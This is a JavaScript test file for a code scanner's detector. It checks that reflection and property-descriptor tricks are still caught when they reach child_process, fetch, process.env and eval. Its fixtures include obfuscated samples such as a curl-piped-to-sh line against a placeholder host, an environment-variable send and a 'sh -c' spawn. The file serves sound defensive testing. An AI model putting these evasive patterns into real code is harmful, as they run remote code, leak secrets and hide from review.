/**
 * Reflection and descriptors: a module member or a global reached through `Reflect`, a property
 * descriptor, an enumeration of the module, or `.call`/`.apply`/`.bind` of a computed member.
 */
import { testEvasionClass } from '../../helpers/evasion-tester.js';

testEvasionClass('reflection and descriptors', {
  flags: [
    {
      code: "Reflect.get(require('child_process'), 'exec')('curl -s x.invalid | sh')",
      module: 'cjs',
      findings: [
        { capability: 'shell', line: 1, column: 13, api: 'child_process', confidence: 'high' },
        { capability: 'shell', line: 1, column: 1, api: 'child_process.exec', confidence: 'medium' },
      ],
    },
    {
      code: "const cp = require('child_process');\nReflect.apply(Reflect.get(cp, 'ex' + 'ec'), cp, ['id'])",
      module: 'cjs',
      findings: [
        { capability: 'shell', line: 1, column: 12, api: 'child_process', confidence: 'high' },
        { capability: 'shell', line: 2, column: 1, api: 'child_process.exec', confidence: 'medium' },
      ],
    },
    {
      code: "Reflect.get(globalThis, 'fe' + 'tch')('https://x.invalid')",
      findings: [{ capability: 'network', line: 1, column: 1, api: 'fetch', confidence: 'medium' }],
    },
    {
      code: "const d = Object.getOwnPropertyDescriptor(globalThis, 'fetch');\nd.value('https://x.invalid')",
      findings: [{ capability: 'network', line: 2, column: 1, api: 'fetch', confidence: 'medium' }],
    },
    {
      code: "Object.getOwnPropertyDescriptor(require('child_process'), 'execSync').value('id')",
      module: 'cjs',
      findings: [
        { capability: 'shell', line: 1, column: 33, api: 'child_process', confidence: 'high' },
        { capability: 'shell', line: 1, column: 1, api: 'child_process.execSync', confidence: 'medium' },
      ],
    },
    {
      code: "const env = Object.getOwnPropertyDescriptors(process).env.value;\nsend(env)",
      findings: [{ capability: 'env', line: 1, column: 13, api: 'process.env', confidence: 'medium' }],
    },
    {
      code: "import * as cp from 'node:child_process';\nObject.entries(cp).find(([k]) => k === 'exec')[1]('id')",
      module: 'esm',
      findings: [
        { capability: 'shell', line: 1, column: 1, api: 'child_process', confidence: 'high' },
        { capability: 'shell', line: 2, column: 1, api: 'child_process[…]', confidence: 'medium' },
      ],
    },
    {
      code: "const cp = require('child_process');\nconst run = Object.values(cp).filter((f) => f.length === 3)[0];\nrun('id')",
      module: 'cjs',
      findings: [
        { capability: 'shell', line: 1, column: 12, api: 'child_process', confidence: 'high' },
        { capability: 'shell', line: 2, column: 13, api: 'child_process[…]', confidence: 'medium' },
        { capability: 'shell', line: 3, column: 1, api: 'child_process[…]', confidence: 'medium' },
      ],
    },
    {
      code: "const cp = require('child_process');\ncp['ex' + 'ec'].call(null, 'id')",
      module: 'cjs',
      findings: [
        { capability: 'shell', line: 1, column: 12, api: 'child_process', confidence: 'high' },
        { capability: 'shell', line: 2, column: 1, api: 'child_process.exec', confidence: 'medium' },
      ],
    },
    {
      code: "const cp = require('child_process');\nconst run = cp['spa' + 'wn'].bind(cp);\nrun('sh', ['-c', cmd])",
      module: 'cjs',
      findings: [
        { capability: 'shell', line: 1, column: 12, api: 'child_process', confidence: 'high' },
        { capability: 'shell', line: 2, column: 13, api: 'child_process.spawn', confidence: 'medium' },
        { capability: 'shell', line: 3, column: 1, api: 'child_process.spawn', confidence: 'medium' },
      ],
    },
    {
      code: "const cp = require('child_process');\ncp[method].apply(cp, args)",
      module: 'cjs',
      findings: [
        { capability: 'shell', line: 1, column: 12, api: 'child_process', confidence: 'high' },
        { capability: 'shell', line: 2, column: 1, api: 'child_process[…]', confidence: 'medium' },
      ],
    },
    {
      code: "Reflect.apply(Reflect.get(globalThis, 'ev' + 'al'), null, [payload])",
      findings: [{ capability: 'eval', line: 1, column: 1, api: 'eval', confidence: 'medium' }],
    },
    {
      code: "const F = Reflect.construct(Reflect.get(globalThis, 'Function'), ['return process']);\nF()",
      findings: [{ capability: 'eval', line: 1, column: 11, api: 'Function', confidence: 'medium' }],
    },
  ],
  clean: [
    "Reflect.get(config, 'exec')('x')",
    "Object.getOwnPropertyDescriptor(options, 'fetch').value('x')",
    "Object.entries(options).find(([k]) => k === 'exec')[1]('x')",
    "const d = Object.getOwnPropertyDescriptor(globalThis, 'navigator');\nconsole.log(d.value)",
    'Reflect.apply(handler, null, args)',
    "const size = Object.keys(require('os')).length",
    'const run = helpers[name].bind(helpers);\nrun()',
    "Reflect.construct(Date, [0]).getTime.call(new Date())",
  ],
});
